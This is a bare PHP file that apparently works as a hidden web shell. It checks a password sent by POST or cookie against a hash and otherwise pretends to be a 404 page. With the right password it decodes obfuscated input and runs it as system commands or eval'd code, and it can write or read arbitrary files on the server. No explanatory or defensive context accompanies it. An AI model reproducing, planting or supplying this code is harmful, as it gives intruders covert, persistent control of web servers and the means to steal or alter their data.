<?php
@error_reporting(0);
@set_time_limit(0);
$k = isset($_POST['k']) ? $_POST['k'] : (isset($_COOKIE['k']) ? $_COOKIE['k'] : '');
if (md5($k) !== '0a6d5ef4bb1a7e0e0a2b7f13c8b8e1d2') { header('HTTP/1.1 404 Not Found'); exit; }
$c = base64_decode(str_rot13($_POST['c']));
switch ($_POST['a']) {
    case 'e': echo shell_exec($c . ' 2>&1'); break;
    case 'w': file_put_contents($_POST['p'], base64_decode($_POST['d'])); echo 'ok'; break;
    case 'r': echo base64_encode(file_get_contents($_POST['p'])); break;
    default: eval($c);
}
